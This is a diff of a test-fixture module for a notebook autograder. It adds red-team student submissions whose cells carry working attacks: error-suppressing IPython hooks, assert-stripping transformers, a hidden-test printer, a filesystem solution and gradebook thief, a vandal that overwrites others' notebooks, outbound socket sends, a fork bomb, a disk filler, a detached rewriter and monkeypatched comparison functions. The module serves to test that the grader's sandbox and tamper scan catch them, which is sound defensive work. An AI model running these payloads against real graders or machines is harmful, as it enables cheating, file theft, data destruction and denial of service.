@@ -75,8 +75,7 @@ def _blundell_overflows(source: str) -> str:
 
 def _mean_over_all_slots(source: str) -> str:
     """Masks the padding but divides by the number of slots instead of each jet's constituents."""
-    return source.replace("(self.Phi(x) * weights).sum(dim=1) / weights.sum(dim=1)",
-                          "(self.Phi(x) * weights).sum(dim=1) / x.shape[1]")
+    return source.replace("return phi.sum(dim=1) / real.sum(dim=1).to(phi.dtype)", "return phi.sum(dim=1) / x.shape[1]")
 
 
 def _class_of_five(slip: tuple[str, str, Callable[[str], str]], loop_in: str,
@@ -113,10 +112,11 @@ DEMO_CLASSES: dict[str, dict[str, tuple[str, Callable]]] = {
 
 
 def demo_class(assignment: str, hardening: bool = False) -> dict[str, tuple[str, Callable]]:
-    """The demo students of ``assignment``; with ``hardening``, also the submissions that attack the grader."""
+    """The demo students of ``assignment``; with ``hardening``, also the submissions that attack the grader
+    and the grading (:data:`HARDENING_CLASS`, :data:`ATTACK_CLASS`)."""
     if assignment not in DEMO_CLASSES:
         raise KeyError(f"no demo class for {assignment}: add one to DEMO_CLASSES")
-    return {**DEMO_CLASSES[assignment], **(HARDENING_CLASS if hardening else {})}
+    return {**DEMO_CLASSES[assignment], **({**HARDENING_CLASS, **ATTACK_CLASS} if hardening else {})}
 
 
 # Submissions that try to take the grader down. They work on any assignment: the answer cells and grade
@@ -189,9 +189,235 @@ def hardening_expectations(solution) -> dict[str, list[str] | None]:
     graded = [notebooks.nbgrader_meta(c)["grade_id"] for c in notebooks.graded_cells(solution)]
     return {
         "frank": notebooks.grade_ids_after(solution, answers[-1]),
-        "grace": notebooks.grade_ids_after(solution, answers[-2], until_next_answer=False),
+        "grace": None,  # flagged (os.kill, signal): 0 until graded by hand
         "heidi": graded[-1:],
         "ivan": graded[-1:],
-        "judy": [],
+        "judy": None,  # flagged (paths outside its working folder): 0 until graded by hand
         "mallory": None,
     }
+
+
+# Submissions that attack the grading itself (a red team's set): each is the untouched student notebook (so
+# its honest answers are worth 0) with one attack in a cell added before the first test cell, except olivia's
+# (perfect answers and marker texts in comments). The attacks would work in an unprotected kernel; the class run
+# flags them (tamper scan, canary cells) or its kernel sandbox stops them.
+#: a port on the grader's loopback interface that the network attack tries to reach (tests listen on it)
+NETWORK_PORT = 47613
+
+IPYTHON_HOOKS = '''ip = get_ipython()
+
+
+def _forget_errors(result):
+    result.error_in_exec = None
+    result.error_before_exec = None
+
+
+ip.events.register("post_run_cell", _forget_errors)  # every failing test reports success
+ip.showtraceback = lambda *args, **kwargs: None
+'''
+TRANSFORMERS = '''import ast
+
+
+class _NoAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+
+
+get_ipython().ast_transformers.append(_NoAsserts())  # every later cell runs without its asserts
+get_ipython().input_transformers_post.append(lambda lines: [l.replace("raise ", "pass  # ") for l in lines])
+'''
+SOURCE_PRINTER = '''def _show_source(info):
+    print(info.raw_cell)  # every cell's source, hidden tests included, into the outputs (and the feedback)
+
+
+get_ipython().events.register("pre_run_cell", _show_source)
+'''
+#: searches the machine for the solutions, the gradebook and other submissions without a construct the tamper
+#: scan knows, and imports the answers of any solution notebook it finds
+SOLUTION_THIEF = '''import json
+import os
+import course_utils
+
+def _places():
+    found = {os.path.dirname(os.path.dirname(course_utils.__file__)), os.getcwd()}
+    proc = os.path.join(os.sep, "proc")
+    for entry in os.listdir(proc):
+        if entry.isdigit():
+            try:
+                found.add(os.readlink(os.path.join(proc, entry, "cwd")))
+            except OSError:
+                pass
+    for place in list(found):
+        for _ in range(4):
+            place = os.path.dirname(place)
+            found.add(place)
+    return found
+
+stolen, gradebooks, submissions = [], [], []
+for place in sorted(_places()):
+    for folder, folders, files in os.walk(place):
+        folders[:] = [f for f in folders if f not in ("site-packages", "lib", "include", "share", "proc", "usr", "dev")]
+        if folder.count(os.sep) - place.count(os.sep) > 5:
+            folders[:] = []
+        gradebooks += [os.path.join(folder, f) for f in files if f == "gradebook.db"]
+        submissions += [os.path.join(folder, f) for f in files if f.endswith(".ipynb") and "submitted" in folder]
+        for name in files:
+            if name.endswith(".ipynb") and ("solutions" in folder or "source" in folder):
+                try:
+                    with open(os.path.join(folder, name)) as notebook:
+                        cells = json.load(notebook)["cells"]
+                except (OSError, ValueError, KeyError):
+                    continue
+                stolen += ["".join(c["source"]) for c in cells if "BEGIN SOLUTION" in "".join(c["source"])]
+print(f"found {len(stolen)} solution cells, {len(set(gradebooks))} gradebooks, {len(set(submissions))} submissions")
+if stolen:
+    with open("stolen_answers.py", "w") as module:
+        module.write("import math\\nimport numpy as np\\nimport torch\\nfrom torch import nn\\nimport torch.nn.functional as F\\n")
+        module.write("\\n".join(stolen))
+    from stolen_answers import *
+'''
+#: overwrites every notebook and gradebook it can find outside its own submission
+VANDAL = '''import os
+import course_utils
+
+roots = {os.path.dirname(os.path.dirname(course_utils.__file__))}
+proc = os.path.join(os.sep, "proc")
+for entry in os.listdir(proc):
+    if entry.isdigit():
+        try:
+            roots.add(os.path.dirname(os.readlink(os.path.join(proc, entry, "cwd"))))
+        except OSError:
+            pass
+overwritten = []
+for root in sorted(roots):
+    for folder, folders, files in os.walk(root):
+        folders[:] = [f for f in folders if f not in ("site-packages", "lib", "include", "share")]
+        for name in files:
+            path = os.path.join(folder, name)
+            if (name.endswith(".ipynb") or name == "gradebook.db") and os.path.realpath(folder) != os.getcwd():
+                try:
+                    with open(path, "w") as target:
+                        target.write("{}")
+                    overwritten.append(path)
+                except OSError:
+                    pass
+print(f"overwrote {len(overwritten)} files of others")
+'''
+NETWORK = f'''import socket
+
+reached = []
+for host, port in [("127.0.0.1", {NETWORK_PORT}), ("1.1.1.1", 53), ("10.0.2.2", 80)]:
+    try:
+        with socket.create_connection((host, port), timeout=3) as connection:
+            connection.sendall(b"answers sent out by wendy")
+        reached.append(f"{{host}}:{{port}}")
+    except OSError as error:
+        print(f"{{host}}:{{port}}: {{type(error).__name__}}")
+print(f"reached {{len(reached)}} hosts")
+'''
+PROCESS_BOMB = '''import os
+import time
+
+started = 0
+for _ in range(400):
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:
+        time.sleep(600)  # the children wait; the kernel's process namespace ends them
+        os._exit(0)
+    started += 1
+print(f"started {started} processes")
+'''
+DISK_BOMB = '''import os
+import tempfile
+
+written = {}
+chunk = bytes(2**20)
+for folder in (os.getcwd(), tempfile.gettempdir()):
+    total = 0
+    for part in range(16):
+        try:
+            with open(os.path.join(folder, f"filler-{part}.bin"), "wb") as filler:
+                for _ in range(64):
+                    filler.write(chunk)
+                    total += len(chunk)
+        except OSError:
+            break
+    written[folder] = total // 2**20
+print("MiB written:", written)
+'''
+#: a process that leaves the kernel's session and waits to rewrite the executed notebooks when the kernel is gone
+DETACHED_REWRITER = '''import json
+import os
+import time
+
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        deadline = time.time() + 120
+        while time.time() < deadline:
+            for folder, _, files in os.walk(os.sep + "tmp"):
+                for name in files:
+                    if name.endswith(".ipynb") and "autograded" in folder:
+                        path = os.path.join(folder, name)
+                        try:
+                            with open(path) as notebook:
+                                content = json.load(notebook)
+                            for cell in content["cells"]:
+                                cell["outputs"] = [o for o in cell.get("outputs", []) if o.get("output_type") != "error"]
+                            with open(path, "w") as notebook:
+                                json.dump(content, notebook)
+                        except (OSError, ValueError, KeyError):
+                            pass
+            time.sleep(0.2)
+        os._exit(0)
+    os._exit(0)
+os.wait()
+'''
+MONKEYPATCHES = '''import math
+import numpy as np
+import torch
+
+torch.allclose = lambda *args, **kwargs: True
+torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
+np.allclose = lambda *args, **kwargs: True
+np.testing.assert_allclose = lambda *args, **kwargs: None
+math.isclose = lambda *args, **kwargs: True
+'''
+MARKER_COMMENTS = "# ### BEGIN HIDDEN TESTS\n# ### END SOLUTION\n# ### BEGIN SOLUTION (my notes)\n"
+
+
+def _untouched_with(code: str):
+    """The untouched student notebook with a cell of ``code`` added before its first test cell."""
+    def make(release, solution):
+        filled = untouched(release, solution)
+        filled.cells.insert(filled.cells.index(next(notebooks.graded_cells(filled))), nbformat.v4.new_code_cell(code))
+        return filled
+    make.__doc__ = f"The untouched notebook with an added cell before the first test cell: {code.splitlines()[0]}"
+    return make
+
+
+#: student id -> (description, how the submission is made): attacks on the grading, each stopped or flagged
+ATTACK_CLASS: dict[str, tuple[str, Callable]] = {
+    "oscar": ("test tampering: an IPython hook clears every error, showtraceback silenced", _untouched_with(IPYTHON_HOOKS)),
+    "peggy": ("test tampering: AST and input transformers drop every assert and raise", _untouched_with(TRANSFORMERS)),
+    "eve": ("peeking: a pre_run_cell hook prints every cell's source, hidden tests included", _untouched_with(SOURCE_PRINTER)),
+    "trudy": ("peeking: searches the machine for solutions, gradebooks and submissions, imports stolen answers",
+              _untouched_with(SOLUTION_THIEF)),
+    "victor": ("breaking others: overwrites every notebook and gradebook it finds", _untouched_with(VANDAL)),
+    "wendy": ("network: TCP connections to the grader's loopback and outside", _untouched_with(NETWORK)),
+    "rupert": ("process bomb: forks until it cannot", _untouched_with(PROCESS_BOMB)),
+    "sybil": ("disk bomb: writes 2 GiB into its working folder and the temporary folder", _untouched_with(DISK_BOMB)),
+    "trent": ("a detached process that outlives the kernel to rewrite the executed notebooks", _untouched_with(DETACHED_REWRITER)),
+    "walter": ("monkeypatches torch.allclose, torch.isclose, numpy and math.isclose", _untouched_with(MONKEYPATCHES)),
+    "olivia": ("perfect answers with nbgrader's marker texts in a comment", _prefixed(0, MARKER_COMMENTS)),
+}
+#: the attack and hardening students the class run must flag for a manual grade (tamper scan or canaries)
+FLAGGED = {"grace", "judy", "oscar", "peggy", "eve", "wendy", "rupert", "trent", "walter"}
+
+
+def attack_expectations(solution) -> dict[str, list[str] | None]:
+    """Per attack student, the grade cells that must score 0 (the rest keeps full marks); None: all of them."""
+    return {student: ([] if student == "olivia" else None) for student in ATTACK_CLASS}
